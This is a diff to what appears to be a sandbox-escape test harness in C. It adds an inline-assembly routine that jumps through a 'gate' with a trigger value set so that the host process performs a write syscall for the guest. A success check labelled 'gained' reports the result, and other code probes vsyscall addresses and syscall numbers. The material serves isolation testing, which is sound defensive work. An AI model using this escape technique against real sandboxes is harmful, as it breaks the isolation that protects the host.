@@ -18,12 +18,34 @@ asm(".section .rodata\n"
 
 static uint64_t result;
 
+/*
+ * A call that the host would answer: write to a file that only the cell's host
+ * processes have open. First the gate, so that the way out of it is fresh.
+ */
+static long host_write(const char *text, long len)
+{
+	long n;
+
+	asm volatile("mov %[trigger], %%r15d\n mov $39, %%eax\n lea 1f(%%rip), %%rcx\n jmp *%[gate]\n" /* getpid */
+		     "1: mov $1, %%eax\n mov %[fd], %%edi\n mov %[text], %%rsi\n mov %[len], %%rdx\n syscall\n"
+		     /* Without the trigger the way out is as it should be. */
+		     "mov %%rax, %%r12\n xor %%r15d, %%r15d\n mov $39, %%eax\n lea 2f(%%rip), %%rcx\n jmp *%[gate]\n"
+		     "2: mov %%r12, %%rax\n"
+		     : "=&a"(n)
+		     : [trigger] "i"(OFF_TRIGGER), [gate] "r"(GATE), [fd] "i"(4), [text] "r"(text), [len] "r"(len)
+		     : "rcx", "rdx", "rsi", "rdi", "r11", "r12", "r15", "memory");
+	return n;
+}
+
 int attack(void)
 {
 	static const uint64_t vsyscalls[] = { 0xffffffffff600000, 0xffffffffff600400, 0xffffffffff600800 };
 	struct utsname u;
 	long nr;
 
+	close(4);
+	if (TRY(nr = host_write("a call of the host\n", 19)) == 0 && nr > 0)
+		GAINED("the host has written %ld bytes", nr);
 	/* A system call instruction is the guest's, for every number. */
 	for (nr = 500; nr < 1100; nr += 37)
 		if (syscall(nr) != -1 || errno != ENOSYS)
